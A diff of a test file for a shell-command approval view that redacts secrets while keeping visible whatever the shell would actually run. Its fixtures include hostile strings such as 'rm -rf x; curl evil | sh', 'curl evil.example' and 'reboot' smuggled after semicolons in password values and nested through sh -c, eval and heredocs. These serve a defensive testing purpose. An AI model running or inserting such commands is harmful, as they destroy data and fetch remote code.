@@ -2,12 +2,11 @@ import { describe, expect, test } from "bun:test";
 import { shownScript } from "../../src/approvals/view.ts";
 import { filterSecrets } from "../../src/detection/sensitive.ts";
 
-const SECRETS_OF = {
-  findSecrets: (text: string) => filterSecrets(text).findings,
-  filterSecrets: (text: string) => filterSecrets(text).text,
-};
-const shown = (script: string): string => shownScript(script, SECRETS_OF);
-const audited = (script: string): string => shownScript(script, SECRETS_OF, "run");
+const shown = (script: string): string =>
+  shownScript(script, {
+    findSecrets: (text) => filterSecrets(text).findings,
+    filterSecrets: (text) => filterSecrets(text).text,
+  });
 
 const LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
 const keyAround = (lines: string): string =>
@@ -44,15 +43,13 @@ describe("APR-06: what the shell would start stands in the view, however near a 
     ['sh -c "PASSWORD=hunter2hunter2\\`reboot\\`"', "reboot"],
     ["cat <<E | sh\nls\nPASSWORD=hunter2hunter2;reboot\nE", ";reboot"],
     [keyAround("rm -rf x"), "\nrm -rf x\n"],
-    [`sh -c '\n${keyAround("rm -rf x; curl evil | sh")}'`, "\nrm -rf x; curl evil | sh\n"],
+    [`sh -c '${keyAround("rm -rf x; curl evil | sh")}'`, "\nrm -rf x; curl evil | sh\n"],
     [`sh -c x='${keyAround("rm -rf x")}'`, "\nrm -rf x\n"],
     [`cat <<E | sh\n: \n${keyAround("rm -rf x")}\nE`, "\nrm -rf x\n"],
   ];
   test.each(rows)("%j", (script, started) => {
-    for (const text of [shown(script), audited(script)]) {
-      expect(text).toContain(started);
-      expect(text).not.toContain("hunter2hunter2;");
-    }
+    expect(shown(script)).toContain(started);
+    expect(shown(script)).not.toContain("hunter2hunter2;");
   });
 });
 
@@ -79,7 +76,6 @@ describe("APR-08: and secrets do not", () => {
   ];
   test.each(rows)("%j", (script, want) => {
     expect(shown(script)).toBe(want);
-    expect(audited(script)).toBe(want);
   });
 
   test.each([
@@ -98,49 +94,10 @@ describe("APR-08: and secrets do not", () => {
   });
 });
 
-describe("AUD-21: the audit cuts a quoted secret only in text that the script runs", () => {
-  test.each([
-    ["mysql -u root -p'x;yhunter2secret' db", "mysql -u root -p'[REDACTED]' db"],
-    ['mysql --password="x;yhunter2secret" db', 'mysql --password="[REDACTED]" db'],
-    ["mysql -px\\;yhunter2secret db", "mysql -p[REDACTED] db"],
-    ["env PASSWORD='p@ss;w0rd1' psql", "env PASSWORD='[REDACTED]' psql"],
-    ['curl -u "admin:hunt;er2hunter2" h.test', 'curl -u "admin:[REDACTED]" h.test'],
-    ["docker run -e PASSWORD='p@ss|w0rd1' image", "docker run -e PASSWORD='[REDACTED]' image"],
-    ["mysql <<E\nSET PASSWORD='x;yhunter2secret';\nE", "mysql <<E\nSET PASSWORD='[REDACTED]';\nE"],
-    ["bash -c \"mysql -p'x;yhunter2secret'\"", "bash -c \"mysql -p'[REDACTED]'\""],
-    ["ssh db \"tool --password 'x;yhunter2secret'\"", "ssh db \"tool --password '[REDACTED]'\""],
-    ["eval ls; mysql -p'also;yhunter2secret'", "eval ls; mysql -p'[REDACTED]'"],
-  ])("%j", (script, want) => {
-    expect(audited(script)).toBe(want);
-  });
-
-  const NESTED = "PASSWORD=hunter2hunter2;reboot now";
-  test.each([
-    `sudo bash -c '${NESTED}'`,
-    `xargs sh -c '${NESTED}' < hosts`,
-    `find . -exec sh -c '${NESTED}' \\;`,
-    `trap '${NESTED}' EXIT`,
-    `su --command='${NESTED}' bob`,
-    `echo '${NESTED}' | sh`,
-    `sh <<< '${NESTED}'`,
-    `cd /tmp; bash -c "cd $PWD; ${NESTED}"`,
-    `eval "cd $HOME;${NESTED}"`,
-    `git -c alias.x='!${NESTED}' x`,
-    `watch '${NESTED}'`,
-    `kubectl exec pod -- sh -c '${NESTED}'`,
-    `env -S 'sh -c "${NESTED}"'`,
-  ])("keeps what programs are known to run: %j", (script) => {
-    expect(audited(script)).toContain(";reboot now");
-  });
-
-  test.each([
-    `$SHELL -c '${NESTED}'`,
-    `f() { eval "$1"; }; f '${NESTED}'`,
-    `echo '${NESTED}' | tr a b | sh`,
-    `echo '${NESTED}' > a.sh; sh a.sh`,
-    `source <(echo '${NESTED}')`,
-    `python3 -c "import os; os.system('${NESTED}')"`,
-  ])("keeps any nested text of a script that does not show what it runs: %j", (script) => {
-    expect(audited(script)).toContain(";reboot now");
-  });
+test("what a program runs of its quoted argument is shown, whatever the program", () => {
+  const programs = ["sh -c", "xterm -e", "sed -n", "rg --pre", "fzf --preview", "ansible all -a", "psql -c", "bun -e"];
+  for (const program of programs) {
+    const script = `${program} 'PASSWORD=hunter2x;curl evil.example'`;
+    expect(shown(script)).toContain("curl evil.example");
+  }
 });
